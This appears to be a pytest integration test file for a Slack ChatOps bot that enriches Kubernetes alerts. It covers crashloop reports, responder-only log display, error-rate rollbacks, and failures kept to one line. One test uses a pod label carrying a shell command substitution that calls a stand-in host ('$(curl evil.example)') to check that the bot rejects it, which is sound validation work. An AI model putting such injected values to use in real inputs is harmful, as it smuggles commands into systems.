"""Alerts that arrive with evidence (``alerts.enrich``), over the wire: Alertmanager's payloads POSTed to the running
bot, kmock as the cluster (a crash-looping pod owned by a ReplicaSet of a Deployment, its previous container's log),
the recording Slack, the bot's own Redis. The report lands in the incident's thread once however often the group is
re-sent; logs stay out of the shared post and "Show logs" gives them to the responder who clicks; every failure is one
line and the incident stands. Each test has its own bot, Redis and cluster; the module its own Slack stand-in."""

from __future__ import annotations

import json
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import kmock
import pytest
import redis

from bot.core import keys
from bot.core.clock import MovableClock
from tests.integration.test_alerts import TOKEN, alert, announcement, group, opened, send
from tests.integration.test_runbooks import CRASH_LOGS, GATEWAY_LOGS
from tests.support.bot_process import SignedSlack, ack_text
from tests.support.harness import Bot
from tests.support.kube import KubeEmulator
from tests.support.net import wait_for
from tests.support.redis_server import RedisServer
from tests.support.replies import buttons_of, reply_text, wait_reply
from tests.support.runbook_seed import NS, seed
from tests.support.slack_recorder import Call, SlackRecorder, blocks_of, own_recorder, text_of_blocks
from tests.support.tcp_proxy import DelayingProxy

POD = "payments-api-7d4b9c8f6-x2k9p"  # of ReplicaSet payments-api-7d4b9c8f6, of Deployment payments-api
CONFIG = """
channels: {incidents: C0INCIDENTS}
oncall: {timezone: UTC, rotation: [U0ALICE, U0BOB]}
permissions: {operators: [U0OPS], responders: [U0ALICE, U0BOB, U0OPS]}
kubernetes: {clusters: [{name: emu, context: emu}], share_logs: %(share)s}
alerts:
  min_severity: P3
  enrich:
    - {match: {alertname: KubePodCrashLooping}, run: crashloop}
    - {match: {alertname: HighErrorRate}, run: high-error-rate, args: "--pattern=ERROR"}
    - {match: {namespace: "~.+"}, run: changes}
  enrich_defaults: true
  enrich_timeout: %(timeout)ds
"""


def objects() -> dict[str, list[dict[str, Any]]]:
    """The runbooks' cluster, its crash-looping pod owned as a Deployment's pods are (pod → ReplicaSet → Deployment)."""
    planted = seed()
    (crashing,) = [p for p in planted["v1/pods"] if p["metadata"]["name"] == "payments-api-5c7d9"]
    owner = {"apiVersion": "apps/v1", "controller": True}
    crashing["metadata"]["name"] = POD
    crashing["metadata"]["ownerReferences"] = [
        {**owner, "kind": "ReplicaSet", "name": "payments-api-7d4b9c8f6", "uid": "uid-rs-payments"}
    ]
    replicaset = {
        "apiVersion": "apps/v1",
        "kind": "ReplicaSet",
        "metadata": {
            "name": "payments-api-7d4b9c8f6",
            "namespace": NS,
            "uid": "uid-rs-payments",
            "resourceVersion": "1",
            "labels": {"app": "payments-api"},
            "ownerReferences": [{**owner, "kind": "Deployment", "name": "payments-api", "uid": "uid-payments"}],
        },
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "payments-api"}}},
    }
    planted["apps/v1/replicasets"].append(replicaset)
    return planted


class Rig:
    """A bot reaching kmock (through ``proxy``'s port, when given one), with its own Redis."""

    def __init__(self, tmp: Path, recorder: SlackRecorder, *, share: bool = False, timeout: int = 10) -> None:
        self.kube = KubeEmulator().start()
        self.kube.seed(objects())

        def logs() -> None:
            self.kube.emulator[kmock.name(POD), kmock.subresource("log")] << CRASH_LOGS
            for i in range(2):
                self.kube.emulator[kmock.name(f"api-gateway-h3abc-{i}"), kmock.subresource("log")] << GATEWAY_LOGS

        self.kube.call(logs)
        self.proxy = DelayingProxy(int(self.kube.url.rsplit(":", 1)[1]))
        kubeconfig = self.kube.kubeconfig(tmp / "kubeconfig")
        kubeconfig.write_text(kubeconfig.read_text().replace(self.kube.url, f"http://127.0.0.1:{self.proxy.port}"))
        self.redis = RedisServer().start()
        config = tmp / "chatops.yaml"
        config.write_text(textwrap.dedent(CONFIG % {"share": str(share).lower(), "timeout": timeout}))
        recorder.reset()
        self.recorder = recorder
        self.bot = Bot(redis_url=self.redis.url, slack_api_url=recorder.api_url, config_path=config,
                       log_path=tmp / "bot.log", clock=MovableClock(),
                       extra_env={"ALERTS_TOKEN": TOKEN, "KUBECONFIG": str(kubeconfig)}).start()  # fmt: skip
        self.slack = SignedSlack(self.bot.base_url, recorder.response_url)
        self.state = redis.Redis.from_url(self.redis.url, decode_responses=True)

    def open(self, name: str, **labels: str) -> int:
        return opened(send(self.bot, self.payload(name, **labels)))

    def payload(self, name: str, **labels: str) -> dict[str, Any]:
        instance = labels.get("pod") or labels.get("deployment") or "x"
        return group(name, [alert(name, instance, severity="critical", **labels)], severity="critical")

    def thread(self, number: int) -> list[Call]:
        """What was posted under the incident's announcement."""
        ts = announcement(self.recorder, number).reply_ts
        return [c for c in self.recorder.of("chat.postMessage") if c.params.get("thread_ts") == ts]

    def said(self, number: int, phrase: str) -> list[Call]:
        return [c for c in self.thread(number) if phrase in f"{c.params.get('text')}\n{text_of_blocks(blocks_of(c))}"]

    def wait_said(self, number: int, phrase: str, timeout: float = 20) -> Call:
        found = wait_for(
            lambda: self.said(number, phrase), timeout=timeout, what=f"{phrase!r} in INC-{number}'s thread"
        )
        assert isinstance(found, list)
        return found[0]

    def settled(self) -> None:
        """Every piece of background work of the bot done (announcements, enrichments): what did not happen by now
        will not."""
        wait_for(lambda: self.bot.services.tasks.pending == 0, timeout=30, what="the bot's background work")

    def requests(self, fragment: str = "") -> int:
        return int(self.kube.call(lambda: len([r for r in self.kube.emulator if fragment in str(r.url.path)])))

    def doc(self, number: int) -> dict[str, Any]:
        return dict(json.loads(str(self.state.hget(keys.doc(number), "doc"))))

    def timeline(self, number: int) -> str:
        return ack_text(self.slack.command(f"timeline INC-{number}", user="U0BOB"))

    def close(self) -> None:
        self.slack.close()
        self.state.close()
        self.bot.terminate()
        self.redis.cleanup()
        self.proxy.close()
        self.kube.stop()


recorder = pytest.fixture(scope="module", name="recorder")(own_recorder)


@pytest.fixture
def rig(tmp_path: Path, recorder: SlackRecorder) -> Iterator[Rig]:
    made = Rig(tmp_path, recorder)
    yield made
    made.close()


# The report ----------------------------------------------------------------------------------------------------------
def test_a_crashloop_alert_gets_its_report_once_in_the_thread_however_often_it_is_resent(rig: Rig) -> None:
    payload = rig.payload("KubePodCrashLooping", namespace=NS, pod=POD, container="payments-api")
    number = opened(send(rig.bot, payload))
    report = rig.wait_said(number, "Pod CrashLooping: production/payments-api")  # the pod's owner, by its owners
    for _ in range(5):
        assert send(rig.bot, payload).json()["action"] == "unchanged"
    # Another pod of the same Deployment joins: one workload, one report.
    other = alert("KubePodCrashLooping", "payments-api-7d4b9c8f6-b2c4d", severity="critical", namespace=NS,
                  pod="payments-api-7d4b9c8f6-b2c4d")  # fmt: skip
    assert send(rig.bot, {**payload, "alerts": [*payload["alerts"], other]}).json()["action"] == "updated"
    rig.settled()
    assert len(rig.said(number, "Pod CrashLooping")) == 1
    assert rig.requests(f"/pods/{POD}/log") == 1  # diagnosed once

    text = text_of_blocks(blocks_of(report))
    assert "9 restarts" in text and "OOMKilled (exit 137) — memory limit 256Mi" in text
    assert "Run automatically for the alert *KubePodCrashLooping*" in text
    assert "ConfigMap payments-config (last changed" in text and "Secret payments-db (values not read)" in text
    (restart,) = buttons_of(blocks_and(report), "offer_restart")  # the runbook's offer, stored on the incident
    assert restart["text"]["text"] == "Restart payments-api (rolling)"
    offer = json.loads(str(rig.state.get(keys.offer(restart["value"]))))
    assert offer["incident"] == number and offer["deployment"] == "payments-api"
    timeline = rig.timeline(number)
    assert "*enriched* — crashloop on production/payments-api: 9 restarts, OOMKilled" in timeline


def test_the_shared_post_has_no_log_lines_and_show_logs_gives_them_to_the_responder_who_clicks(rig: Rig) -> None:
    number = rig.open("KubePodCrashLooping", namespace=NS, pod=POD)
    report = rig.wait_said(number, "Pod CrashLooping")
    rig.settled()
    posted = "\n".join(f"{c.params.get('text')}\n{text_of_blocks(blocks_of(c))}" for c in rig.recorder.calls)
    assert "OutOfMemoryError" not in posted and "ledger rows" not in posted  # nowhere the channel sees
    assert "log lines not posted in the channel" in text_of_blocks(blocks_of(report))
    (button,) = buttons_of(blocks_and(report), "enrich_logs")
    assert button["text"]["text"] == "Show logs" and "payments" not in button["value"] and len(button["value"]) < 30

    since = len(rig.recorder.of("response_url"))
    rig.slack.click("enrich_logs", button["value"], user="U0MALLORY")
    assert "Only incident responders may see pod logs" in reply_text(wait_reply(rig.recorder, since, "responders"))
    reads = rig.requests(f"/pods/{POD}/log")

    since = len(rig.recorder.of("response_url"))
    rig.slack.click("enrich_logs", button["value"], user="U0BOB")
    shown = wait_reply(rig.recorder, since, "OutOfMemoryError: Java heap space")
    assert shown["response_type"] == "ephemeral"  # only the person who clicked sees it
    assert "Pod CrashLooping: production/payments-api" in reply_text(shown)
    assert rig.requests(f"/pods/{POD}/log") == reads + 1  # read at click time, from the cluster
    assert not [c for c in rig.recorder.of("chat.postMessage") if "OutOfMemoryError" in str(c.params)]

    since = len(rig.recorder.of("response_url"))
    rig.slack.click("enrich_logs", "forged-or-expired", user="U0BOB")
    wait_reply(rig.recorder, since, "These logs are no longer kept")


def test_high_error_rate_with_share_logs_posts_its_lines_and_roll_backs_and_a_changes_rule_narrows_what_changed(
    tmp_path: Path, recorder: SlackRecorder
) -> None:
    rig = Rig(tmp_path, recorder, share=True)
    try:
        number = rig.open("HighErrorRate", namespace=NS, deployment="api-gateway")
        report = rig.wait_said(number, "High error rate: production/api-gateway")
        text = text_of_blocks(blocks_of(report))
        assert "6/10 recent log lines match `ERROR`" in text and "ERROR 502 from ledger" in text  # shared: its lines
        assert not buttons_of(blocks_and(report), "enrich_logs")
        rollbacks = [b["accessory"] for b in blocks_of(report) if (b.get("accessory") or {}).get("action_id")]
        assert {b["text"]["text"] for b in rollbacks} == {"Roll back to revision 1", "Roll back to revision 2"}
        entry = "*enriched* — high-error-rate on production/api-gateway: 6/10 recent log lines"
        wait_for(lambda: entry in rig.timeline(number), what="the enrichment on the timeline (recorded after its post)")

        # A namespace's alert matches the changes rule (first match wins): the incident's "What changed", posted once
        # it is announced for the group's common labels (no namespace: the whole cluster), is narrowed to the alert's
        # workload — one message, edited, whichever of the two comes first.
        narrowed = rig.open("DiskAlmostFull", namespace=NS, deployment="api-gateway")
        (posted,) = wait_for(lambda: rig.said(narrowed, "What changed"), what="the incident's changes")

        def latest() -> str:
            edits = [c for c in rig.recorder.of("chat.update") if c.params.get("ts") == posted.reply_ts]
            return text_of_blocks(blocks_of(edits[-1] if edits else posted))

        wait_for(lambda: "scope: production/api-gateway" in latest(), what="the changes narrowed to the workload")
        rig.settled()
        assert len(rig.said(narrowed, "What changed")) == 1 and "scope: production/api-gateway" in latest()
        assert not rig.said(narrowed, "⚠️")
    finally:
        rig.close()


# Failures: one line, the incident stands ---------------------------------------------------------------------------
def test_a_workload_that_does_not_exist_is_one_line_and_the_incident_is_fine(rig: Rig) -> None:
    number = rig.open("KubePodCrashLooping", namespace=NS, pod="ghost-7d4b9c8f6-x2k9p")
    line = rig.wait_said(number, "crashloop on production/ghost-7d4b9c8f6-x2k9p")
    assert line.params["text"] == (
        "⚠️ crashloop on production/ghost-7d4b9c8f6-x2k9p: no such workload in cluster `emu` (no Deployment "
        "production/ghost, no pods with app=ghost)"
    )
    assert rig.doc(number)["state"] == "open"
    rig.settled()
    assert len(rig.said(number, "crashloop on")) == 1 and "*not enriched* — crashloop on" in rig.timeline(number)


def test_a_forbidden_api_is_one_line(rig: Rig) -> None:
    rig.kube.react("v1/pods", 403)
    number = rig.open("KubePodCrashLooping", namespace=NS, pod=POD)
    line = rig.wait_said(number, "forbidden")
    assert str(line.params["text"]).startswith(f"⚠️ crashloop on production/{POD}: forbidden: the bot may not read")
    assert "Traceback" not in str(line.params) and rig.doc(number)["state"] == "open"


def test_an_api_that_does_not_answer_is_one_line_within_the_time_box_and_delays_nothing(
    tmp_path: Path, recorder: SlackRecorder
) -> None:
    rig = Rig(tmp_path, recorder, timeout=2)
    try:
        rig.proxy.delay_reply_to(b"/pods/", 8)  # the pod's owner is read first: its answer is held for 8 s
        started = time.monotonic()
        number = rig.open("KubePodCrashLooping", namespace=NS, pod=POD)
        answered = time.monotonic()
        posted = announcement(recorder, number)
        line = rig.wait_said(number, "did not answer", timeout=10)
        assert line.params["text"] == f"⚠️ crashloop on production/{POD} did not answer within 2 s"
        assert answered - started < 1.5 and posted.at - started < 1.5  # neither waited for the cluster
        assert 2 <= line.at - started < 4  # the time box, not the API's 8 s
        assert rig.doc(number)["state"] == "open" and rig.proxy.delayed == 1
    finally:
        rig.close()


def test_a_bad_label_is_not_enriched_and_reaches_no_api(rig: Rig) -> None:
    number = rig.open("KubePodCrashLooping", namespace=NS, pod="Payments_API$(curl evil.example)")
    line = rig.wait_said(number, "not enriched")
    assert str(line.params["text"]).startswith("⚠️ not enriched: crashloop for KubePodCrashLooping: `Payments_API")
    assert "is not a valid pod name" in str(line.params["text"])
    rig.settled()
    # No call about it reached the cluster (the change feed's own reads at open are lists, by no name).
    assert rig.requests("Payments") == 0 and rig.requests("/pods/") == 0 and rig.requests("/deployments/") == 0
    assert rig.doc(number)["state"] == "open"


def blocks_and(call: Call) -> dict[str, Any]:
    """A posted message as ``buttons_of`` reads it."""
    return {"blocks": blocks_of(call)}
